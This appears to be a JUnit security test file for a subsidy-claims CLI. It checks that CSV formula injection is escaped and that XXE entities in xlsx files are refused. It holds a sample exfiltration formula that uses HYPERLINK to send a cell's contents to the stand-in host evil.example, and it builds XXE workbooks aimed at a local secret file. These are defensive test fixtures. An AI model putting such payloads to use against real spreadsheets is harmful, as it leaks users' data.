package cn.ipsubsidy.cli;

import static org.assertj.core.api.Assertions.assertThat;

import cn.ipsubsidy.testsupport.Crafted;
import cn.ipsubsidy.testsupport.RawXlsx;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hostile claims files through {@code calc}: nothing they carry runs or leaks. */
class SecurityTest {
  @TempDir Path dir;

  /**
   * Cells that start with = + - @ or a tab come out of calc prefixed with ' in the workbook and the
   * audit log, so neither Excel nor a re-import runs them.
   */
  @Test
  void formulaInjectionIsNeutralisedInEveryWrittenCell() throws Exception {
    Path claims =
        Files.copy(
            BadInputsTest.CORPUS.resolve("formula-injection.csv"), dir.resolve("claims.csv"));
    Cli r = Cli.inDir(dir, "calc", claims.toString());
    assertThat(r.exit()).as(r.all()).isZero();
    String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    try (XSSFWorkbook wb = new XSSFWorkbook(dir.resolve("claims-payout.xlsx").toFile())) {
      Map<String, List<String>> detail = CalcEndToEndTest.detailRows(wb);
      assertThat(detail).containsKeys("'" + hyperlink, "'+86-1");
      assertThat(detail.get("'" + hyperlink).get(2)).isEqualTo("'=1+2");
      assertThat(detail.get("'+86-1").get(2)).isEqualTo("'-2+3");
    }
    String audit = Files.readString(dir.resolve("claims-audit.csv"), StandardCharsets.UTF_8);
    assertThat(audit)
        .contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\",")
        .contains(",'+86-1,")
        .doesNotContain(",=")
        .doesNotContain(",+86");
  }

  /**
   * A sheet whose DOCTYPE points an external entity at a local file: refused, and the file's
   * contents appear nowhere, not on the terminal, not in the log, not in any file written.
   */
  @Test
  void anExternalEntityIsNeverResolved() throws Exception {
    Path secret = Files.writeString(dir.resolve("payroll.txt"), BadInputsTest.SECRET);
    for (String part : Crafted.XML_PARTS) {
      Path f =
          Crafted.doctypeWorkbook(
              dir.resolve("xxe-" + part + ".xlsx"),
              part,
              secret,
              RawXlsx.textRow(1, BadInputs.H7),
              RawXlsx.textRow(2, BadInputs.G1));
      Cli r = Cli.run("calc", f.toString(), "--verbose");
      assertThat(r.exit()).as(r.all()).isEqualTo(2);
      assertThat(r.all()).contains("DOCTYPE").doesNotContain(BadInputsTest.SECRET);
    }
    try (var files = Files.list(dir)) {
      assertThat(files.map(p -> p.getFileName().toString()))
          .as("nothing written")
          .allMatch(n -> n.startsWith("xxe-") || n.equals("payroll.txt"));
    }
    assertThat(PersonalDataTest.testLog()).doesNotContain(BadInputsTest.SECRET);
  }
}
